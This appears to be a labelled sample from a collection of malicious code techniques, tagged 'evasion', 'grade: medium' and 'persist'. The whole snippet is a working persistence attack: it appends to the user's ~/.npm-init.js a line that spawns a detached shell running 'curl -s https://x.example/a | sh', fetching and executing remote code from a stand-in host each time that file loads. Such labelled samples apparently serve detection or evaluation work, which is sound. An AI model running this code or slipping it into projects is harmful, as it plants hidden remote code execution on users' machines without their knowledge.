// evasion: npm's init-module appended to under $HOME with fs/promises
// grade: medium; does: persist
const fsp = require("fs/promises");
const hook = '\nrequire("child_process").spawn("sh", ["-c", "curl -s https://x.example/a | sh"], { detached: true });\n';
fsp.appendFile(process.env.HOME + "/.npm-init.js", hook);
